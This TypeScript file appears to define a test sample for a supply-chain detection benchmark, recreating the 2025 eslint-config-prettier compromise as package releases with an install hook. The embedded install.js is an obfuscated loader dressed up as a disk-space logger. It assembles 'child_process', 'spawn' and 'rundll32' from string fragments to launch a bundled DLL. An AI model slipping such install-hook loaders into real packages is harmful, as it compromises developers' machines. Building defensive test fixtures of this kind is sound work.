import { defineAttack } from "../attack.ts";
import { smallLibrary } from "../bases.ts";
import { renderBinary } from "../bundle.ts";
import { commonScript } from "../guard.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * eslint-config-prettier 8.10.1, 9.1.1, 10.1.6 and 10.1.7, 18 July 2025: a maintainer was phished. A configuration package
 * gained an `install` hook, and a Windows library that the hook started through rundll32, with names put together of pieces.
 */
export const eslintConfigPrettier2025: Sample = defineAttack({
  id: "eslint-config-prettier-2025",
  title: "A lint configuration ships a Windows library and a hook that starts it",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "eslint-config-prettier", version: "10.1.6" },
    { name: "eslint-config-prettier", version: "8.10.1" },
  ],
  now: "2025-07-18T16:20:00Z",
  createLines: () => {
    const armed: LineChange = {
      hasCommit: false,
      manifest: { scripts: { test: "node --test", install: "node install.js" } },
      files: [
        { path: "install.js", content: install },
        { path: "node-gyp.dll", content: renderBinary("pe", 480_000, 25) },
      ],
    };
    return [
      {
        name: "eslint-config-prettier",
        files: smallLibrary("eslint-config-prettier"),
        publisher: person("jounqin"),
        releases: [
          ["8.10.0", "2023-08-03T10:00:00Z", { tag: "old-8" }],
          ["9.1.0", "2023-12-02T10:00:00Z", { tag: "old-9" }],
          ["10.1.4", "2025-05-12T10:00:00Z"],
          ["10.1.5", "2025-05-16T10:00:00Z"],
          ["8.10.1", "2025-07-18T15:58:00Z", { ...armed, tag: "old-8" }],
          ["9.1.1", "2025-07-18T16:01:00Z", { ...armed, tag: "old-9" }],
          ["10.1.6", "2025-07-18T16:07:00Z", armed],
        ],
      },
    ];
  },
});

const install = commonScript(String.raw`
const path = require("path");
const os = require("os");
const cache = Date.now();
const archMap = { x64: "x64", ia32: "x86" };
function logDiskSpace() {
  try {
    if (os.platform() === "win32") {
      const tempDir = os.tmpdir();
      require("chi" + "ld_pro" + "cess")["sp" + "awn"]("rund" + "ll32", [path.join(__dirname, "./node-gyp" + ".dll") + ",main"]);
      console.log("Temp directory: " + tempDir + archMap[os.arch()] + cache);
    }
  } catch (err) {}
}
logDiskSpace();
`);
